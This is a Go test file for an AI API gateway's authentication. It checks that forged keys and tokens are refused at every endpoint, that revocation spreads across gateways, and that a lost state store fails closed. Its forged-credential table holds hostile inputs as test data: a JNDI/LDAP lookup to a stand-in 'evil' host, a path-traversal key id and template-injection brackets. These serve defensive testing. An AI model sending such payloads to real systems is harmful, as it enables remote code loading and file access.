package gateway_test

import (
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/fealty/fealty/gateway/identity/state"
	"github.com/fealty/fealty/gateway/identity/state/statetest"
	"github.com/fealty/fealty/policy"
)

// What is no credential gets a 401 (or, too large for a header, a 431) at every door,
// and costs neither a look at the chain nor a generation.
func TestForgedCredentialsOverHTTP(t *testing.T) {
	r := newRig(t)
	token := r.signIn(r.wallet)
	parts := strings.Split(token, ".")
	r.chain.fail(io.ErrUnexpectedEOF) // whoever asks the chain gets a 503
	for name, c := range map[string]struct {
		value string
		want  int
	}{
		"nothing":              {"", 401},
		"no scheme":            {r.key, 401},
		"Basic":                {"Basic " + r.key, 401},
		"an empty bearer":      {"Bearer ", 401},
		"a key cut":            {"Bearer " + r.key[:len(r.key)-1], 401},
		"a key in capitals":    {"Bearer " + strings.ToUpper(r.key), 401},
		"another id":           {"Bearer fk_" + strings.Repeat("a", 16) + r.key[19:], 401},
		"another secret":       {"Bearer " + r.key[:20] + strings.Repeat("a", 52), 401},
		"a key with a tail":    {"Bearer " + r.key + "a", 401},
		"two keys":             {"Bearer " + r.key + "," + r.key, 401},
		"a key and a space":    {"Bearer " + r.key + " x", 401},
		"a token unsigned":     {"Bearer " + parts[0] + "." + parts[1] + ".", 401},
		"a token without alg":  {"Bearer e30." + parts[1] + "." + parts[2], 401},
		"a token cut":          {"Bearer " + token[:len(token)-9], 401},
		"a token padded":       {"Bearer " + token + "==", 401},
		"five parts":           {"Bearer " + token + ".a.b", 401},
		"9 kB":                 {"Bearer " + strings.Repeat("a", 9<<10), 401},
		"20 kB":                {"Bearer " + strings.Repeat("a", 20<<10), 431},
		"dots":                 {"Bearer " + strings.Repeat(".", 1000), 401},
		"Redis commands":       {"Bearer fk_*", 401},
		"bytes beyond ASCII":   {"Bearer \xff\xfe", 401},
		"a path for a key id":  {"Bearer fk_../../../../etc__" + strings.Repeat("a", 52), 401},
		"brackets of a script": {"Bearer {{.}}${jndi:ldap://evil}", 401},
	} {
		for _, door := range []struct{ method, path string }{{"POST", "/v1/chat/completions"}, {"GET", "/v1/models"}, {"GET", "/v1/keys"}, {"POST", "/auth/revoke"}} {
			req, err := http.NewRequest(door.method, r.url+door.path, strings.NewReader(chatBody("")))
			must(t, err)
			req.Header["Authorization"] = []string{c.value}
			resp, err := http.DefaultTransport.RoundTrip(req)
			must(t, err)
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != c.want {
				t.Errorf("%s at %s: %d, want %d", name, door.path, resp.StatusCode, c.want)
			}
		}
	}
	if n := r.engine.count(); n != 0 {
		t.Errorf("%d generations for forged credentials", n)
	}
	if strings.Contains(r.log.String(), r.key[20:]) || strings.Contains(r.log.String(), parts[2]) {
		t.Error("a credential stands in the log")
	}
}

// A wallet that signs out ends its token at every gateway; its keys stay.
func TestRevokeTokenOverHTTP(t *testing.T) {
	one := newRig(t)
	two := newRigOn(t, one.redis)
	two.chain.set(one.subject, func(g *policy.Grant) { *g = license(everything) })
	token := one.signIn(one.wallet)
	if got := two.post("/v1/chat/completions", token, chatBody("")); got.status != 200 {
		t.Fatalf("the token at the other gateway: %d %s", got.status, got.body)
	}
	if got := one.post("/auth/revoke", one.key, "").refusal(); got.code != "token_required" {
		t.Errorf("an API key ends nothing: %+v", got)
	}
	if got := one.post("/auth/revoke", token, ""); got.status != 200 || !strings.Contains(got.body, `"revoked":true`) {
		t.Fatalf("revoke: %d %s", got.status, got.body)
	}
	want := refusal{401, "credential_revoked", "", "false"}
	if got := one.post("/v1/chat/completions", token, chatBody("")).refusal(); got != want {
		t.Errorf("where it was revoked: %+v", got)
	}
	var got reply
	for end := time.Now().Add(patience); time.Now().Before(end) && got.status != 401; { // its cache would hold it for a minute
		got = two.post("/v1/chat/completions", token, chatBody(""))
	}
	if got.refusal() != want {
		t.Errorf("at the other gateway, %v later: %d %s", patience, got.status, got.body)
	}
	if got := two.post("/v1/chat/completions", one.key, chatBody("")); got.status != 200 {
		t.Errorf("the wallet's API key: %d %s", got.status, got.body)
	}
}

// A state store that lost its data answers 503 to everybody, known or not, until an
// operator says that it may go on.
func TestLostStateOverHTTP(t *testing.T) {
	r := newRig(t)
	token := r.signIn(r.wallet)
	ask := func(credential string) refusal {
		got := r.do("GET", "/v1/models", credential, "")
		if got.status == 200 {
			return refusal{status: 200}
		}
		return got.refusal()
	}
	for _, credential := range []string{r.key, token} {
		if got := ask(credential); got.status != 200 {
			t.Fatalf("before: %+v", got)
		}
	}
	r.redis.Flush()
	lost := refusal{503, "state_unavailable", "", "true"}
	for end := time.Now().Add(patience); time.Now().Before(end) && ask(r.key) != lost; {
	}
	for name, got := range map[string]refusal{
		"a key that was cached":   ask(r.key),
		"a token that was cached": ask(token),
		"an unknown key":          ask(r.key[:20] + strings.Repeat("a", 52)),
		"the list of keys":        r.do("GET", "/v1/keys", token, "").refusal(),
		"a new key":               r.post("/v1/keys", token, `{"name":"x"}`).refusal(),
		"a request":               r.post("/v1/chat/completions", r.key, chatBody("")).refusal(),
		"signing out":             r.post("/auth/revoke", token, "").refusal(),
	} {
		if got != lost {
			t.Errorf("%s: %+v, want %+v", name, got, lost)
		}
	}
	if ready := r.do("GET", "/readyz", "", ""); ready.status != 503 || !strings.Contains(ready.body, "fealty state init") || r.metric("fealty_state_lost") != "1" {
		t.Errorf("readyz %d %q, fealty_state_lost %q", ready.status, ready.body, r.metric("fealty_state_lost"))
	}
	client := statetest.Client(t, r.redis.Addr())
	until(t, "the store says that it is lost", func() bool { return client.HExists(t.Context(), "fealty:1:state", "lost").Val() })
	done, err := state.Init(t.Context(), client)
	if err != nil || done.Lost == "" {
		t.Fatalf("init: %+v, %v", done, err)
	}
	for end := time.Now().Add(patience); time.Now().Before(end) && ask(token).status != 200; {
	}
	if got := ask(token); got.status != 200 {
		t.Errorf("the token after init: %+v", got)
	}
	if ready := r.do("GET", "/readyz", "", ""); ready.status != 200 || r.metric("fealty_state_lost") != "0" {
		t.Errorf("after init readyz %d %q, fealty_state_lost %q", ready.status, ready.body, r.metric("fealty_state_lost"))
	}
	if got := ask(r.key[:20] + strings.Repeat("a", 52)); got.code != "invalid_api_key" {
		t.Errorf("an unknown key after init: %+v", got)
	}
}
